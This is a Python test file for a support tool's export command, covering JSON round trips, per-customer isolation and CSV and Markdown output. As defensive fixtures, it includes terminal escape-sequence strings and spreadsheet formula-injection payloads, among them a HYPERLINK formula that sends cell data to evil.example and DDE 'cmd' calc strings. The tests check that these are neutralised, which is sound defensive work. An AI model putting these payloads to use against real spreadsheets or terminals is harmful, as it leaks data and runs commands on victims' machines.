"""`oncall export`: a customer leaves with everything, and the JSON re-imports identically."""

from __future__ import annotations

import copy
import csv
import json
import re

import pytest
from markdown_it import MarkdownIt

from oncall_tui.cli import main
from oncall_tui.core.handoff import body_about
from oncall_tui.resources import fixture_file
from oncall_tui.store import handoffs, writes
from oncall_tui.store.importer import import_document
from oncall_tui.store.interchange import validate

from .conftest import NOW, open_store

HOSTILE = ("\x1b[2J\x1b]0;pwned\x07 [bold red]markup[/bold red] [link=http://x]y[/link] \x00NUL "
           "\u202eevil\u202c \x9b31m C1, commas, \"quotes\"\r\nline two\n\tindented")
MARKDOWNISH = "# Not a heading\n```\nnot the end of the block\n```\n> not a quote\n---\n- not a list"
MULTILINE = "bonjour,\r\nça marche, ou pas ?\n\nMerci, Jean"
ACME_SECRET = "ACME-ONLY: our payroll server is app-01"


def ev(at, kind, direction, author, body, channel=None, **extra):
    rec = {"at": at, "kind": kind, "direction": direction, "author": author, "body": body, **extra}
    if channel:
        rec["channel"] = channel
    return rec


RICH = {
    "engineers": [
        {"name": "alice", "region": "EMEA", "city": "Paris", "timezone": "Europe/Paris"},
        {"name": "bob", "region": "AMER", "city": "San Francisco", "timezone": "America/Los_Angeles"},
        {"name": "kenji", "region": "APAC", "city": "Tokyo", "timezone": "Asia/Tokyo"},
        {"name": "priya", "region": "APAC", "city": "Singapore", "timezone": "Asia/Singapore"},
    ],
    "customers": [
        {"id": "c-boul", "name": "Boulangerie Martin", "language": "fr", "timezone": "Europe/Paris",
         "tier": "business", "owner": "alice", "emails": ["contact@boulangerie-martin.fr"],
         "facts": "Jean prefers phone calls.\nAccounting: Marie.",
         "assets": [
             {"kind": "server", "name": "web-01", "ipv4": "203.0.113.10", "ipv6": "2001:db8::10",
              "datacenter": "SBG", "webroot": "/var/www/boutique"},
             {"kind": "domain", "name": "boutique-martin.fr", "server": "web-01", "webroot": "/var/www/boutique"},
             {"kind": "database", "name": "shop_prod", "server": "web-01"}]},
        {"id": "c-acme", "name": "Acme Widgets Ltd", "language": "en", "timezone": "America/New_York",
         "tier": "critical", "owner": "bob",
         "assets": [{"kind": "server", "name": "app-01", "ipv4": "198.51.100.7", "datacenter": "SBG"}]},
        {"id": "c-zen", "name": "Zen [b]Yoga[/b] *Studio*", "timezone": "Asia/Tokyo"},
    ],
    "incidents": [
        {"id": "INC-1", "title": "SBG power loss", "scope": {"datacenter": "SBG", "servers": ["web-01", "app-01"]},
         "status": "monitoring", "opened_at": "2026-11-23T21:40:00Z", "opened_by": "bob",
         "last_update_at": "2026-11-23T23:00:00Z",
         "events": [
             ev("2026-11-23T21:45:00Z", "incident", "out", "bob", "We are investigating a power loss in SBG.",
                "email", meta={"update": 1, "channels": ["email", "status-page"]}),
             ev("2026-11-23T23:00:00Z", "incident", "out", "bob", "Power is back; we are monitoring.", "email",
                id="inc-1-update-2")]},
        {"id": "INC-2", "title": "Acme-only DNS glitch", "status": "resolved",
         "opened_at": "2026-11-20T10:00:00Z", "resolved_at": "2026-11-20T11:00:00Z",
         "events": [ev("2026-11-20T10:05:00Z", "incident", "internal", "priya", "ACME-ONLY incident note")]},
    ],
    "cases": [
        {"id": "T-100", "customer": "c-boul", "subject": "Charger un SSL sur boutique-martin.fr",
         "status": "open", "opened_at": "2026-11-24T03:00:00Z", "assignee": "alice",
         "summary": "Wants: HTTPS.\nDone: nothing yet.\nNext: issue the certificate.",
         "external_ref": "rt:100", "incident": "INC-1",
         "events": [
             ev("2026-11-24T03:00:00Z", "message", "in", "jean", HOSTILE, "email", id="msg-hostile"),
             ev("2026-11-24T03:20:00Z", "message", "out", "kenji", "Please see our Let's Encrypt guide.", "email",
                author_region="APAC"),
             ev("2026-11-24T03:25:00Z", "note", "internal", "kenji", MARKDOWNISH, "note", id="note-md"),
             ev("2026-11-24T03:30:00Z", "call", "in", "jean", "Called: still no padlock.", "phone"),
             ev("2026-11-24T03:40:00Z", "chat", "in", "jean", MULTILINE, "chat", id="chat-multiline"),
             ev("2026-11-24T04:00:00Z", "action", "internal", "alice", "Issued a certificate for boutique-martin.fr",
                "tool", id="act-1", meta={"zeta": 1, "action": "certificate",
                                         "result": {"ok": True, "sans": ["boutique-martin.fr"], "b": 2, "a": 1}}),
             # Two events at the same second: their order must survive the round trip.
             ev("2026-11-24T04:00:00Z", "status", "internal", "alice", "new → open", "tool",
                meta={"from": "new", "to": "open"}),
             ev("2026-11-24T04:05:00Z", "summary", "internal", "alice", "Wants: HTTPS.", "note",
                meta={"previous": ""}),
             ev("2026-11-24T04:10:00Z", "handoff", "internal", "alice", "Handing over to AMER.", "note"),
             ev("2026-11-24T04:15:00Z", "ack", "internal", "bob", "Got it.", "tool"),
             ev("2026-11-24T04:20:00Z", "incident", "out", "bob", "Your server is in the affected room.", "email"),
             ev("2026-11-24T04:25:00Z", "fact", "internal", "alice", "Jean prefers phone calls."),
         ]},
        {"id": "T-102", "customer": "c-boul", "subject": "Same opening second as T-100",
         "status": "new", "opened_at": "2026-11-24T03:00:00Z",
         "events": [ev("2026-11-24T03:00:00Z", "message", "in", "jean", "Deuxième question.", "email")]},
        {"id": "T-050", "customer": "c-boul", "subject": "Old backup question", "status": "resolved",
         "opened_at": "2026-11-01T09:00:00Z", "assignee": "alice",
         "events": [ev("2026-11-01T09:00:00Z", "call", "in", "jean", "Asked where backups are kept.", "phone")]},
        {"id": "T-200", "customer": "c-acme", "subject": "Site down after deploy", "status": "open",
         "opened_at": "2026-11-24T06:00:00Z", "assignee": "priya", "incident": "INC-1",
         "events": [ev("2026-11-24T06:00:00Z", "message", "in", "ann", ACME_SECRET, "email")]},
        {"id": "T-201", "customer": "c-acme", "subject": "DNS glitch", "status": "resolved",
         "opened_at": "2026-11-20T10:00:00Z", "incident": "INC-2",
         "events": [ev("2026-11-20T10:00:00Z", "message", "in", "ann", "ACME-ONLY: names fail", "email")]},
    ],
    "handoffs": [
        {"id": "H-1", "author": "kenji", "region": "APAC", "at": "2026-11-24T05:00:00Z",
         "body": "T-100 waits on DNS; T-200 502 after deploy.", "case_ids": ["T-100", "T-200"],
         "acks": [{"case_id": "T-100", "engineer": "alice", "at": "2026-11-24T07:00:00Z"},
                  {"case_id": "T-200", "engineer": "bob", "at": "2026-11-24T15:00:00Z"}]},
        {"id": "H-2", "author": "bob", "region": "AMER", "at": "2026-11-24T16:00:00Z",
         "body": "ACME-ONLY handoff", "case_ids": ["T-200"], "acks": []},
    ],
}
RICH_EVENTS = sum(len(c["events"]) for c in RICH["cases"]) + sum(len(i["events"]) for i in RICH["incidents"])


@pytest.fixture
def rich_db(tmp_path):
    path = tmp_path / "rich.db"
    store = open_store(path)
    import_document(store, copy.deepcopy(RICH), now=NOW)
    store.close()
    return path


def oncall(capsys, *argv):
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def export_json(capsys, db, out_dir, *extra) -> bytes:
    code, _, err = oncall(capsys, "--db", db, "export", "--format", "json", "--out", out_dir, *extra)
    assert code == 0, err
    return (out_dir / "export.json").read_bytes()


def import_file(capsys, db, path):
    code, _, err = oncall(capsys, "--db", db, "import", path)
    assert code == 0, err


def round_trip(capsys, tmp_path, db, *extra) -> tuple[bytes, bytes]:
    first = export_json(capsys, db, tmp_path / "first", *extra)
    import_file(capsys, tmp_path / "empty.db", tmp_path / "first" / "export.json")
    second = export_json(capsys, tmp_path / "empty.db", tmp_path / "second")
    return first, second


# -- JSON round trip -----------------------------------------------------------

def test_rich_document_survives_export_import_export_byte_for_byte(rich_db, tmp_path, capsys):
    first, second = round_trip(capsys, tmp_path, rich_db)
    assert first == second
    doc = json.loads(first)
    validate(doc)  # the interchange format, as `oncall import` reads it
    events = [e for c in doc["cases"] for e in c["events"]] + [e for i in doc["incidents"] for e in i["events"]]
    assert len(events) == RICH_EVENTS
    assert {e["kind"] for e in events} == {"message", "note", "call", "chat", "action", "status", "summary",
                                           "handoff", "fact", "incident", "ack"}
    bodies = {e["id"]: e["body"] for e in events}
    assert bodies["msg-hostile"] == HOSTILE and bodies["chat-multiline"] == MULTILINE
    action = next(e for e in events if e["id"] == "act-1")
    assert action["meta"] == {"action": "certificate", "result": {"a": 1, "b": 2, "ok": True,
                                                                  "sans": ["boutique-martin.fr"]}, "zeta": 1}
    boul = next(c for c in doc["customers"] if c["id"] == "c-boul")
    assert boul["facts"] == RICH["customers"][0]["facts"]
    assert {a["name"] for a in boul["assets"]} == {"web-01", "boutique-martin.fr", "shop_prod"}
    h1 = next(h for h in doc["handoffs"] if h["id"] == "H-1")
    assert [(a["case_id"], a["engineer"]) for a in h1["acks"]] == [("T-100", "alice"), ("T-200", "bob")]
    assert [i["id"] for i in doc["incidents"]] == ["INC-2", "INC-1"]  # by opening time
    assert doc["incidents"][1]["events"][1]["body"] == "Power is back; we are monitoring."


def test_export_order_is_customers_by_id_cases_by_opening_then_id(rich_db, tmp_path, capsys):
    doc = json.loads(export_json(capsys, rich_db, tmp_path / "out"))
    assert [c["id"] for c in doc["customers"]] == ["c-acme", "c-boul", "c-zen"]
    assert [c["id"] for c in doc["cases"]] == ["T-050", "T-201", "T-100", "T-102", "T-200"]
    t100 = next(c for c in doc["cases"] if c["id"] == "T-100")
    same_second = [e["kind"] for e in t100["events"] if e["at"] == "2026-11-24T04:00:00Z"]
    assert same_second == ["action", "status"]  # the order they were recorded in


def test_events_the_tool_wrote_round_trip_too(rich_db, tmp_path, capsys):
    store = open_store(rich_db)
    later = NOW.replace(hour=10)
    writes.set_summary(store, "T-100", "Wants: HTTPS.\nDone: certificate issued.", author="bob", now=later)
    writes.set_status(store, "T-102", "pending", author="bob", now=later)
    writes.add_case_event(store, "T-102", kind="note", body="Asked Jean for the DNS login.", author="bob",
                          now=later, region="AMER", meta={"zz": 1, "aa": {"y": 2, "x": 1}})
    store.close()
    first, second = round_trip(capsys, tmp_path, rich_db)
    assert first == second
    doc = json.loads(first)
    t102 = next(c for c in doc["cases"] if c["id"] == "T-102")
    assert t102["status"] == "pending"
    assert [e["kind"] for e in t102["events"]] == ["message", "status", "note"]
    assert next(c for c in doc["cases"] if c["id"] == "T-100")["summary"].endswith("certificate issued.")


def test_customer_facts_revisions_round_trip(rich_db, tmp_path, capsys):
    store = open_store(rich_db)
    writes.set_facts(store, "c-boul", "Jean prefers email now.", author="alice", now=NOW)
    store.close()
    first, second = round_trip(capsys, tmp_path, rich_db)
    assert first == second
    boul = next(c for c in json.loads(first)["customers"] if c["id"] == "c-boul")
    assert [e["kind"] for e in boul["events"]] == ["fact"]


def test_incident_update_filed_on_a_case_keeps_its_incident(rich_db, tmp_path, capsys):
    store = open_store(rich_db)
    with store.write() as conn:
        writes.insert_event(conn, case_id="T-100", customer_id="c-boul", incident_id="INC-1", kind="incident",
                            direction="out", author="bob", body="Power restored in SBG.", now=NOW, channel="email")
    store.close()
    first, second = round_trip(capsys, tmp_path, rich_db)
    assert first == second
    t100 = next(c for c in json.loads(first)["cases"] if c["id"] == "T-100")
    assert [e.get("incident") for e in t100["events"] if e["body"] == "Power restored in SBG."] == ["INC-1"]


def test_handoff_post_record_round_trips_with_its_handoff(rich_db, tmp_path, capsys):
    store = open_store(rich_db)
    handoffs.record_post(store, "H-1", ok=False, detail="HTTP 502", host="chat.example.net", author="kenji",
                         region="APAC", now=NOW)
    store.close()
    first, second = round_trip(capsys, tmp_path, rich_db, "--customer", "c-boul")
    assert first == second
    h1 = json.loads(first)["handoffs"][0]
    assert [e["body"] for e in h1["events"]] == ["Handoff H-1 NOT posted to chat.example.net: HTTP 502"]


def test_demo_fixtures_round_trip_byte_for_byte(tmp_path, capsys):
    demo = fixture_file("demo.json")
    assert demo.is_file(), f"{demo} is missing: run fixtures/make_demo.py"
    import_file(capsys, tmp_path / "demo.db", demo)
    first, second = round_trip(capsys, tmp_path, tmp_path / "demo.db")
    assert first == second
    original = json.loads(demo.read_text(encoding="utf-8"))
    exported = json.loads(first)
    assert len(exported["cases"]) == len(original["cases"])
    assert (sum(len(c["events"]) for c in exported["cases"])
            == sum(len(c.get("events", [])) for c in original["cases"]))


def test_json_goes_to_stdout_without_out_and_matches_the_file(rich_db, tmp_path, capsys):
    code, out, _ = oncall(capsys, "--db", rich_db, "export")
    assert code == 0
    assert out.encode() == export_json(capsys, rich_db, tmp_path / "out")


def test_json_is_safe_to_print_on_a_terminal(rich_db, tmp_path, capsys):
    text = export_json(capsys, rich_db, tmp_path / "out").decode()
    for raw in ("\x1b", "\x00", "\x07", "\x9b", "\u202e"):
        assert raw not in text  # escaped as \uXXXX: same data, no effect on a terminal


def test_exported_at_only_when_asked(rich_db, tmp_path, capsys):
    assert "exported_at" not in json.loads(export_json(capsys, rich_db, tmp_path / "a"))
    doc = json.loads(export_json(capsys, rich_db, tmp_path / "b", "--at", "2026-11-24T10:00:00+01:00"))
    assert doc["exported_at"] == "2026-11-24T09:00:00Z"
    import_file(capsys, tmp_path / "c.db", tmp_path / "b" / "export.json")  # still importable


def test_bad_at_is_refused(rich_db, capsys):
    code, out, err = oncall(capsys, "--db", rich_db, "export", "--at", "yesterday")
    assert code == 2 and "--at" in err and "yesterday" in err and out == ""


# -- one customer --------------------------------------------------------------

def test_customer_option_exports_only_that_customers_data(rich_db, tmp_path, capsys):
    raw = export_json(capsys, rich_db, tmp_path / "out", "--customer", "c-boul")
    assert b"ACME-ONLY" not in raw and b"c-acme" not in raw
    doc = json.loads(raw)
    assert [c["id"] for c in doc["customers"]] == ["c-boul"]
    assert {c["id"] for c in doc["cases"]} == {"T-050", "T-100", "T-102"}
    assert [i["id"] for i in doc["incidents"]] == ["INC-1"]  # it touches T-100; INC-2 does not
    assert len(doc["incidents"][0]["events"]) == 2  # with its own timeline
    assert [(h["id"], h["case_ids"], [a["case_id"] for a in h["acks"]]) for h in doc["handoffs"]] == [
        ("H-1", ["T-100"], ["T-100"])]
    assert "T-200" not in doc["handoffs"][0]["body"]  # H-1 also spoke of Acme's case
    assert {e["name"] for e in doc["engineers"]} == {"alice", "bob", "kenji"}  # not priya (Acme's)


def test_a_handoff_brief_keeps_only_the_customers_own_cases_in_their_export():
    brief = ("# Handoff brief — kenji\n\nShift 01:00 → 09:00 · 2 cases: 2 touched this shift\n\n"
             "## T-100 · Boulangerie Martin · heat 68 · open\nSubject: charger un SSL\nWhy: waiting 3 h\n"
             "Summary:\n> wants HTTPS on boutique-martin.fr\n\n"
             "## T-200 · Acme Corp · heat 55 · open\nSubject: Site down after deploy\nWhy: 502 since 06:00\n"
             "Summary: _no summary_\n")
    mine = body_about(brief, {"T-100"}, {"T-200"})
    assert "## T-100 · Boulangerie Martin" in mine and "boutique-martin.fr" in mine
    assert "T-200" not in mine and "Acme" not in mine and "502" not in mine
    assert mine.startswith("# Handoff brief — kenji")
    # Free text: lines about their case only; a line naming both is left out.
    text = "T-100: DNS fixed, waiting on them\nT-200 and T-100 share the LB\nT-1000 is unrelated\nacme angry"
    assert body_about(text, {"T-100"}, {"T-200", "T-1000"}) == "T-100: DNS fixed, waiting on them"
    assert body_about("acme angry", {"T-100"}, {"T-200"}).startswith("(this handoff was about other")
    assert body_about(brief, {"T-100", "T-200"}, set()) == brief


def test_one_customer_export_round_trips_to_the_same_bytes(rich_db, tmp_path, capsys):
    first, second = round_trip(capsys, tmp_path, rich_db, "--customer", "c-boul")
    assert first == second


def test_unknown_customer_exits_2_naming_it_and_writes_nothing(rich_db, tmp_path, capsys):
    code, out, err = oncall(capsys, "--db", rich_db, "export", "--customer", "c-boul", "--customer", "c-ghost",
                           "--out", tmp_path / "out")
    assert code == 2
    assert "c-ghost" in err and "c-boul" not in err.replace(str(rich_db), "")
    assert out == "" and not (tmp_path / "out").exists()


# -- writing files -----------------------------------------------------------

def test_unwritable_out_is_a_clear_error(rich_db, tmp_path, capsys):
    blocker = tmp_path / "not-a-dir"
    blocker.write_text("x")
    code, _, err = oncall(capsys, "--db", rich_db, "export", "--out", blocker / "sub")
    assert code == 1
    assert "cannot write" in err and str(blocker) in err and "--out" in err


def test_failed_export_leaves_previous_files_untouched_and_no_temporaries(rich_db, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "customers.csv").write_text("previous export\n")
    (out / "events.csv").mkdir()  # something in the way of one of the tables
    code, _, err = oncall(capsys, "--db", rich_db, "export", "--format", "csv", "--out", out)
    assert code == 1 and "events.csv" in err
    assert (out / "customers.csv").read_text() == "previous export\n"
    assert sorted(p.name for p in out.iterdir()) == ["customers.csv", "events.csv"]


# -- CSV -----------------------------------------------------------------------

def read_csv(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_tables_parse_back_with_the_stores_row_counts(rich_db, tmp_path, capsys):
    code, _, err = oncall(capsys, "--db", rich_db, "export", "--format", "csv", "--out", tmp_path / "csv")
    assert code == 0, err
    store = open_store(rich_db)
    try:
        for table in ("customers", "assets", "cases", "events", "incidents", "handoffs", "handoff_acks",
                      "engineers"):
            rows = read_csv(tmp_path / "csv" / f"{table}.csv")
            assert len(rows) == store.query_one(f"SELECT COUNT(*) FROM {table}")[0], table
    finally:
        store.close()
    events = {r["id"]: r for r in read_csv(tmp_path / "csv" / "events.csv")}
    assert events["chat-multiline"]["body"] == MULTILINE  # CRLF, commas and blank line intact
    assert events["msg-hostile"]["body"] == HOSTILE
    assert json.loads(events["act-1"]["meta"])["result"]["sans"] == ["boutique-martin.fr"]
    assert set(read_csv(tmp_path / "csv" / "customers.csv")[0]) >= {"id", "name", "language", "tier", "owner"}


def test_csv_needs_an_out_directory(rich_db, capsys):
    code, out, err = oncall(capsys, "--db", rich_db, "export", "--format", "csv")
    assert code == 2 and "--out" in err and out == ""


def test_csv_for_one_customer_has_no_other_customers_rows(rich_db, tmp_path, capsys):
    oncall(capsys, "--db", rich_db, "export", "--format", "csv", "--customer", "c-acme", "--out", tmp_path / "c")
    events = read_csv(tmp_path / "c" / "events.csv")
    assert events and all(e["case_id"] in ("T-200", "T-201", "") for e in events)
    assert "Boulangerie" not in (tmp_path / "c" / "customers.csv").read_text(encoding="utf-8")


# -- Markdown ------------------------------------------------------------------

def headings(markdown: str) -> list[tuple[str, str]]:
    tokens = MarkdownIt("commonmark").parse(markdown)
    return [(tok.tag, tokens[i + 1].content) for i, tok in enumerate(tokens) if tok.type == "heading_open"]


def fences(markdown: str) -> list[str]:
    return [tok.content for tok in MarkdownIt("commonmark").parse(markdown) if tok.type == "fence"]


def md_text(markdown: str) -> str:
    """What a reader sees once the Markdown is rendered (inline escapes resolved)."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return "\n".join(child.content for tok in tokens if tok.type == "inline" for child in tok.children or ()
                     if child.type in ("text", "text_special")) + "\n".join(tok.content for tok in tokens if tok.type == "fence")


def test_markdown_dossier_shows_who_assets_and_every_case(rich_db, capsys):
    code, md, _ = oncall(capsys, "--db", rich_db, "export", "--format", "md", "--customer", "c-boul")
    assert code == 0
    for text in ("Boulangerie Martin", "fr", "business", "alice", "Europe/Paris", "SBG", "203.0.113.10",
                 "2001:db8::10", "boutique-martin.fr", "shop_prod"):
        assert text in md_text(md)
    for case in RICH["cases"][:3]:
        assert case["subject"] in md
    assert "ACME-ONLY" not in md
    titles = [t for _, t in headings(md)]
    assert "INC-1: SBG power loss" in titles and "Power is back; we are monitoring." in md  # incident timeline
    assert "acknowledged by alice for T-100" in md and "T-200" not in md.replace("T-200 502", "")
    json_blocks = [json.loads(t.content) for t in MarkdownIt("commonmark").parse(md)
                   if t.type == "fence" and t.info == "json"]
    assert json_blocks == [RICH["cases"][0]["events"][5]["meta"]]  # what the action did, from its meta


def test_markdown_body_cannot_break_the_document_structure(rich_db, capsys):
    _, md, _ = oncall(capsys, "--db", rich_db, "export", "--format", "md", "--customer", "c-boul")
    titles = [t for _, t in headings(md)]
    assert "Not a heading" not in titles and "# Not a heading" not in titles
    # The structure is exactly ours: customer, sections, one heading per case with summary and timeline.
    assert titles[:6] == ["Boulangerie Martin", "What we know", "Assets", "Servers", "Domains", "Databases"]
    assert [t for t in titles if t.startswith("T-")] == [
        "T-050: Old backup question", "T-100: Charger un SSL sur boutique-martin.fr",
        "T-102: Same opening second as T-100"]
    assert titles.count("Timeline") == 3
    assert MARKDOWNISH + "\n" in fences(md)  # the body, literal, inside one block


def test_markdown_makes_control_characters_visible(rich_db, capsys):
    _, md, _ = oncall(capsys, "--db", rich_db, "export", "--format", "md", "--customer", "c-boul")
    assert "\x1b" not in md and "\x00" not in md and "\u202e" not in md
    assert "␛[2J" in md and "[bold red]markup[/bold red]" in md


def test_markdown_name_with_markup_stays_literal(rich_db, capsys):
    _, md, _ = oncall(capsys, "--db", rich_db, "export", "--format", "md", "--customer", "c-zen")
    assert headings(md)[0] == ("h1", r"Zen \[b\]Yoga\[/b\] \*Studio\*")  # renders as typed
    rendered = MarkdownIt("commonmark").render(md)
    assert "<h1>Zen [b]Yoga[/b] *Studio*</h1>" in rendered


def test_markdown_with_out_writes_one_dossier_per_customer(rich_db, tmp_path, capsys):
    code, _, _ = oncall(capsys, "--db", rich_db, "export", "--format", "md", "--out", tmp_path / "md")
    assert code == 0
    assert sorted(p.name for p in (tmp_path / "md").iterdir()) == ["c-acme.md", "c-boul.md", "c-zen.md"]
    assert "Acme Widgets Ltd" in (tmp_path / "md" / "c-acme.md").read_text(encoding="utf-8")


def test_markdown_to_stdout_needs_exactly_one_customer(rich_db, capsys):
    code, out, err = oncall(capsys, "--db", rich_db, "export", "--format", "md")
    assert code == 2 and "--customer" in err and out == ""


def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text(tmp_path, capsys):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")', "+33 6 12 34 56 78", "-- urgent --",
                "@SUM(1+1)*cmd|' /C calc'!A0"]
    doc = {"customers": [{"id": "c-1", "name": "=cmd|' /C calc'!A0", "language": "fr"}],
           "cases": [{"id": "T-1", "customer": "c-1", "subject": formulas[0], "status": "open",
                      "opened_at": "2026-11-24T08:00:00Z",
                      "events": [ev(f"2026-11-24T08:0{i}:00Z", "message", "in", "client", body, "email")
                                 for i, body in enumerate(formulas)]}]}
    path = tmp_path / "doc.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    db = tmp_path / "o.db"
    assert oncall(capsys, "--db", db, "import", path)[0] == 0
    assert oncall(capsys, "--db", db, "export", "--format", "csv", "--out", tmp_path / "csv")[0] == 0
    assert read_csv(tmp_path / "csv" / "customers.csv")[0]["name"] == "'=cmd|' /C calc'!A0"
    assert read_csv(tmp_path / "csv" / "cases.csv")[0]["subject"] == "'" + formulas[0]
    bodies = sorted(e["body"] for e in read_csv(tmp_path / "csv" / "events.csv"))
    assert bodies == sorted("'" + f for f in formulas)
    # The interchange JSON keeps the customer's words exactly.
    code, out, _ = oncall(capsys, "--db", db, "export", "--format", "json")
    assert code == 0 and json.loads(out)["cases"][0]["subject"] == formulas[0]


def test_no_customer_export_holds_another_customers_ids_or_names(tmp_path, capsys):
    """Across every customer of the demo, with an outage linking many of them and a handoff naming several."""
    from datetime import datetime, timezone

    from oncall_tui.demo.environment import seed_demo_store
    from oncall_tui.usecases import handoff, incidents

    from .conftest import open_session

    now = datetime(2026, 3, 2, 10, 0, tzinfo=timezone.utc)
    db = tmp_path / "demo.db"
    seed_demo_store(db, now=now)
    session = open_session(db, now=now)
    incidents.declare(session, title="Power outage in SBG", scope={"datacenter": ["SBG"]})
    handoff.send(session, handoff.brief(session, now=now), now=now)
    owners = {r["id"]: r["customer_id"] for r in session.store.query("SELECT id, customer_id FROM cases")}
    names = {r["id"]: r["name"] for r in session.store.query("SELECT id, name FROM customers")}
    session.close()

    def strings(node):
        if isinstance(node, dict):
            for key, value in node.items():
                yield key
                yield from strings(value)
        elif isinstance(node, list):
            for value in node:
                yield from strings(value)
        elif isinstance(node, str):
            yield node

    for customer in names:
        doc = json.loads(export_json(capsys, db, tmp_path / customer, "--customer", customer))
        text = "\n".join(strings(doc))
        others = [c for c, owner in owners.items() if owner != customer]
        leaked = [c for c in others if re.search(rf"(?<![\w-]){re.escape(c)}(?![\w-])", text)]
        leaked += [n for c, n in names.items() if c != customer and (n in text or
                   re.search(rf"(?<![\w-]){re.escape(c)}(?![\w-])", text))]
        assert not leaked, f"{customer}'s export names {leaked}"
